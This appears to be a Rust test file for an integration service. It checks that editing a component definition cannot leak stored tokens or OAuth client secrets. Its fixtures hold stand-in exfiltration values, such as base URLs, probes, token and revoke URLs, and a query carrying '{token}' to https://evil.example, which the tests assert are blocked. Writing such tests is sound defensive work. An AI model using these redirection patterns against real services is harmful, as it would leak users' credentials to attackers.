//! Whoever may change a component must not thereby learn the secrets that others have stored for it.

use axum::http::StatusCode;
use serde_json::{Value, json};
use std::sync::atomic::Ordering;

use crate::components::{acme, connection, machine, put};
use crate::connect::{Provider, begin, good, land, open, progress, test};
use crate::harness::{As, Site};
use crate::revocation::purge;
use patchbay::domain::environment::Environment;
use patchbay::domain::role::Permission;
use patchbay::domain::time::{HOUR, MINUTE};

/// Versions of the component that would send its token elsewhere, or otherwise.
fn attacks() -> Vec<(&'static str, Value)> {
    let service = "/methods/0/service";
    let changes = [
        ("base URL", format!("{service}/base_url"), json!("https://evil.example")),
        ("path of the base URL", format!("{service}/base_url"), json!("https://api.acme.example/tenants/evil")),
        ("a template", format!("{service}/base_url"), json!("https://{site}.acme.example")),
        ("the header's place", format!("{service}/headers"), json!({ "x-forwarded-key": "{token}" })),
        ("header to query", format!("{service}/query"), json!({ "callback": "https://evil.example/?{token}" })),
        ("the probe's URL", format!("{service}/probes/0/base_url"), json!("https://evil.example")),
        ("the probe's path", format!("{service}/probes/0/path"), json!("/echo/{token}")),
        ("the probe's query", format!("{service}/probes/0/query"), json!({ "to": "{token}" })),
        (
            "a second probe",
            format!("{service}/probes"),
            json!([acme("x")["methods"][0]["service"]["probes"][0].clone(), {
                "base_url": "https://evil.example", "outcomes": acme("x")["methods"][0]["service"]["probes"][0]["outcomes"]
            }]),
        ),
        ("the kind", "/methods/0/kind".to_owned(), json!("api_key")),
    ];
    let attack = |(name, at, value): (&'static str, String, Value)| {
        let mut definition = acme("acme");
        if name == "a template" {
            let site = json!({ "id": "site", "label": "Site", "kind": "subdomain", "destination": true, "default": "api",
                               "help": "Yours." });
            definition["methods"][0]["fields"].as_array_mut().expect("fields").push(site);
        }
        let (parent, member) = at.rsplit_once('/').expect("a member");
        definition.pointer_mut(parent).expect("there")[member] = value;
        (name, definition)
    };
    let mut attacks: Vec<_> = changes.into_iter().map(attack).collect();
    let mut other = acme("acme");
    other["methods"][0]["id"] = json!("other");
    attacks.push(("another method", other));
    let mut basic = acme("acme");
    basic["methods"][0]["service"] = json!({
        "protocol": "http", "base_url": "https://api.acme.example",
        "basic": { "user": "x", "password": "{token}" }, "probes": acme("x")["methods"][0]["service"]["probes"]
    });
    attacks.push(("basic authentication", basic));
    let mut mail = acme("acme");
    let field = |id: &str, kind: &str, secret: bool| {
        let destination = matches!(id, "host" | "port" | "tls" | "ca");
        json!({ "id": id, "label": id, "kind": kind, "secret": secret, "destination": destination, "optional": true,
                "help": "Yours.", "default": if id == "host" { "evil.example" } else { "" } })
    };
    mail["methods"][0]["kind"] = json!("database_login");
    mail["methods"][0]["fields"] = json!([
        field("host", "host", false), field("port", "port", false), field("user", "text", false),
        field("token", "text", true), field("password", "text", true), field("database", "text", false),
        field("ca", "multiline", false),
        { "id": "tls", "label": "TLS", "kind": "select", "destination": true, "help": "Yours.", "default": "off",
          "options": [{ "value": "off", "label": "Off" }] },
    ]);
    mail["methods"][0]["service"] = json!({ "protocol": "redis", "default_port": 6379 });
    attacks.push(("another protocol", mail));
    attacks
}

#[tokio::test]
async fn no_change_of_a_component_sends_a_stored_secret() {
    for (name, attack) in attacks() {
        let site = Site::new().await;
        let key = machine(&site).await;
        put(&site, &key, &acme("acme")).await;
        let one = connection(&site, &key, "acme", &json!({ "token": "canary-token" })).await;
        site.pass(MINUTE);
        let changed = put(&site, &key, &attack).await;
        assert_eq!(changed.status, StatusCode::OK, "{name}: {}", changed.text);
        assert_eq!(changed.json()["asks_again"], true, "{name}");

        // What the schedule does: it looks at once, and asks nobody.
        let services = &site.app.services;
        let now = services.clock.now();
        let claims = services.store.claim_checks(now, now.plus(MINUTE), 9).await.expect("claims");
        let [claim] = claims.as_slice() else { panic!("{name}: {claims:?}") };
        services.carry_out(claim).await.expect("carried out");
        let after = site.get(&one, &key).await.json();
        assert_eq!(after["status"], "not_active", "{name}: {after}");

        // Neither does a test on demand, nor an edit that leaves the secret as it is.
        site.call("POST", &format!("{one}/test"), &key, &json!({})).await;
        for path in [one.clone(), format!("{one}?validate=false")] {
            let kept = site.call("PATCH", &path, &key, &json!({ "values": {} })).await;
            assert_eq!(kept.status, StatusCode::BAD_REQUEST, "{name}: {}", kept.text);
        }
        assert_eq!(site.dialled.load(Ordering::Relaxed), 0, "{name}: nobody was even dialled");
    }
}

#[tokio::test]
async fn an_update_that_sends_nothing_elsewhere_keeps_what_is_stored() {
    let site = Site::new().await;
    let key = machine(&site).await;
    put(&site, &key, &acme("acme")).await;
    let one = connection(&site, &key, "acme", &json!({ "token": "canary-token" })).await;
    let mut better = acme("acme");
    better["name"] = json!("Acme Two");
    better["methods"][0]["service"]["probes"][0]["outcomes"][1]["message"] = json!("Refused: make another token.");
    assert_eq!(put(&site, &key, &better).await.json()["asks_again"], false);
    let kept = site.call("PATCH", &format!("{one}?validate=false"), &key, &json!({ "values": {} })).await;
    assert_eq!(kept.status, StatusCode::OK, "{}", kept.text);
    assert_eq!(kept.json()["version"], 2);
}

#[tokio::test]
async fn given_again_a_secret_goes_where_the_component_says_now() {
    let site = Site::new().await;
    let key = machine(&site).await;
    let at = |host: &str| {
        let mut definition = acme("acme");
        definition["methods"][0]["service"]["base_url"] = json!(format!("https://{host}"));
        definition
    };
    put(&site, &key, &at("127.0.0.1")).await;
    let one = connection(&site, &key, "acme", &json!({ "token": "canary-token" })).await;
    put(&site, &key, &at("127.0.0.2")).await;
    let again = json!({ "values": { "token": "canary-token" } });
    let given = site.call("PATCH", &format!("{one}?validate=false"), &key, &again).await;
    assert_eq!((given.status, site.dialled.load(Ordering::Relaxed)), (StatusCode::OK, 0), "{}", given.text);
    site.call("POST", &format!("{one}/test"), &key, &json!({})).await;
    assert_eq!(site.dialled.load(Ordering::Relaxed), 1);
}

#[tokio::test]
async fn a_removed_component_that_comes_back_as_another_gets_no_old_secret() {
    let site = Site::new().await;
    let key = machine(&site).await;
    put(&site, &key, &acme("acme")).await;
    let one = connection(&site, &key, "acme", &json!({ "token": "canary-token" })).await;
    site.call("DELETE", &one, &key, &Value::Null).await;
    let mut evil = acme("acme");
    evil["methods"][0]["service"]["base_url"] = json!("https://evil.example");
    put(&site, &key, &evil).await;
    site.call("POST", &format!("{one}/undelete"), &key, &json!({})).await;
    let tested = site.call("POST", &format!("{one}/test"), &key, &json!({})).await;
    assert_eq!(tested.json()["connection"]["health"]["missing"], json!(["Token"]), "{}", tested.text);
    assert_eq!(site.dialled.load(Ordering::Relaxed), 0);
}

const ADDRESSES: [(&str, &str); 4] =
    [("authorize_url", "/authorize"), ("token_url", "/token"), ("revoke_url", "/revoke"), ("base_url", "")];

/// A component of its own whose addresses are a provider's on this machine.
fn by_oauth() -> Value {
    let mut definition = acme("acme");
    let address = |(id, _): (&str, &str)| json!({ "id": id, "label": id, "kind": "url", "destination": true, "plain_http": true, "help": "For a test." });
    let mut fields: Vec<Value> = ADDRESSES.into_iter().map(address).collect();
    fields.push(json!({ "id": "client_id", "label": "Client id", "help": "Yours." }));
    fields.push(json!({ "id": "client_secret", "label": "Client secret", "secret": true, "help": "Yours." }));
    definition["methods"][0] = json!({
        "id": "oauth", "label": "Sign in", "kind": "authorization_code", "fields": fields,
        "oauth": { "authorize_url": "{authorize_url}", "token_url": "{token_url}", "scopes": [],
                   "revoke": { "url": "{revoke_url}" } },
        "service": {
            "protocol": "http", "base_url": "{base_url}", "headers": { "authorization": "Bearer {access_token}" },
            "probes": [{ "path": "/me", "identity": "{/email}", "outcomes": [
                { "verdict": "valid", "status": [200] },
                { "verdict": "rejected", "status": [401], "message": "Refused." }
            ] }]
        }
    });
    definition
}

fn request(provider: &Provider) -> Value {
    let address = |(id, path): (&str, &str)| (id.to_owned(), json!(format!("{}{path}", provider.origin)));
    let mut values: serde_json::Map<_, _> = ADDRESSES.into_iter().map(address).collect();
    values.insert("client_id".to_owned(), json!("patchbay"));
    values.insert("client_secret".to_owned(), json!("canary-client-secret"));
    json!({ "request": { "environment": "production", "component": "acme", "method": "oauth", "name": "Mail",
                         "values": values, "by": "window" } })
}

async fn connected(site: &Site, provider: &Provider, owner: &As) -> String {
    let begun = begin(site, owner, &request(provider)).await;
    let opened = open(site, &begun).await;
    let landed = land(site, Some(&opened.browser), &good(provider, &opened)).await;
    assert!(landed.text.contains("is connected"), "{}", landed.text);
    progress(site, owner, &begun).await["connected"]["summary"]["id"].as_str().expect("an id").to_owned()
}

fn moved(member: &str, address: &str) -> Value {
    let mut definition = by_oauth();
    match member {
        "revoke" => definition["methods"][0]["oauth"]["revoke"]["url"] = json!(address),
        member => definition["methods"][0]["oauth"][member] = json!(address),
    }
    definition
}

#[tokio::test]
async fn no_token_is_renewed_checked_or_revoked_elsewhere_than_it_was_given_for() {
    for (member, address) in [
        ("token_url", "https://evil.example/t"),
        ("refresh_url", "https://evil.example/t"),
        ("revoke", "https://evil.example/r"),
    ] {
        let (site, provider) = (Site::new().await, Provider::start().await);
        let owner = site.sign_in().await;
        assert_eq!(put(&site, &owner, &by_oauth()).await.status, StatusCode::CREATED);
        let id = connected(&site, &provider, &owner).await;
        let changed = put(&site, &owner, &moved(member, address)).await;
        assert_eq!((changed.status, &changed.json()["asks_again"]), (StatusCode::OK, &json!(true)), "{}", changed.text);
        site.pass(2 * HOUR);
        let (asked, dialled) = (provider.script().asked.len(), site.dialled.load(Ordering::Relaxed));
        let services = &site.app.services;
        let now = services.clock.now();
        for claim in services.store.claim_renewals(now, now.plus(MINUTE), 9, Default::default()).await.expect("claims")
        {
            services.renew_claimed(claim).await.expect("put off");
        }
        let tested = test(&site, &owner, &id).await;
        assert!(tested.contains("has changed since the account was connected"), "{member}: {tested}");
        assert!(tested.contains("Missing") || tested.contains("missing"), "{member}: {tested}");
        purge(&site, &owner, &id).await;
        assert!(provider.script().revoked.is_empty(), "{member}");
        assert_eq!(provider.script().asked.len(), asked, "{member}");
        assert_eq!(site.dialled.load(Ordering::Relaxed), dialled, "{member}: nobody was even dialled");
    }
}

#[tokio::test]
async fn a_component_changed_between_consent_and_answer_gets_neither_code_nor_client_secret() {
    let (site, provider) = (Site::new().await, Provider::start().await);
    let owner = site.sign_in().await;
    put(&site, &owner, &by_oauth()).await;
    let begun = begin(&site, &owner, &request(&provider)).await;
    let opened = open(&site, &begun).await;
    put(&site, &owner, &moved("token_url", "https://evil.example/t")).await;
    let (asked, dialled) = (provider.script().asked.len(), site.dialled.load(Ordering::Relaxed));
    let landed = land(&site, Some(&opened.browser), &good(&provider, &opened)).await;
    assert!(!landed.text.contains("is connected"), "{}", landed.text);
    assert_eq!(provider.script().asked.len(), asked);
    assert_eq!(site.dialled.load(Ordering::Relaxed), dialled);
}

#[tokio::test]
async fn a_stored_oauth_client_is_not_there_for_another_token_url() {
    let site = Site::new().await;
    let owner = site.sign_in().await;
    let at = |token_url: &str| {
        let mut definition = acme("acme");
        definition["methods"][0] = json!({
            "id": "oauth", "label": "Sign in", "kind": "authorization_code", "fields": [],
            "oauth": { "authorize_url": "https://acme.example/authorize", "token_url": token_url, "scopes": [] },
            "service": { "protocol": "http", "base_url": "https://api.acme.example",
                         "headers": { "authorization": "Bearer {access_token}" } }
        });
        definition
    };
    put(&site, &owner, &at("https://acme.example/token")).await;
    let client = json!({ "environment": "production", "component": "acme", "method": "oauth", "client_id": "patchbay",
                         "client_secret": "canary-client-secret" });
    let stored = site.call("POST", "/rpc/store_oauth_client", &owner, &client).await;
    assert!(stored.text.contains("patchbay"), "{}", stored.text);
    put(&site, &owner, &at("https://evil.example/token")).await;
    let told = site.call("POST", "/rpc/oauth_client", &owner, &client).await;
    assert_eq!(told.json()["origin"], "none", "{}", told.text);
    // A key of another environment does not take it away.
    let developer = site.key(&[Permission::Read, Permission::Write], &[Environment::Development]).await;
    let refused = site.call("DELETE", "/api/v1/components/acme", &developer, &Value::Null).await;
    assert_eq!(refused.status, StatusCode::FORBIDDEN, "{}", refused.text);
    // Removed with its component: registered anew, that has no client until somebody gives one.
    let removed = site.call("DELETE", "/api/v1/components/acme", &owner, &Value::Null).await;
    assert_eq!(removed.status, StatusCode::NO_CONTENT, "{}", removed.text);
    put(&site, &owner, &at("https://acme.example/token")).await;
    let told = site.call("POST", "/rpc/oauth_client", &owner, &client).await;
    assert_eq!(told.json()["origin"], "none", "{}", told.text);
}
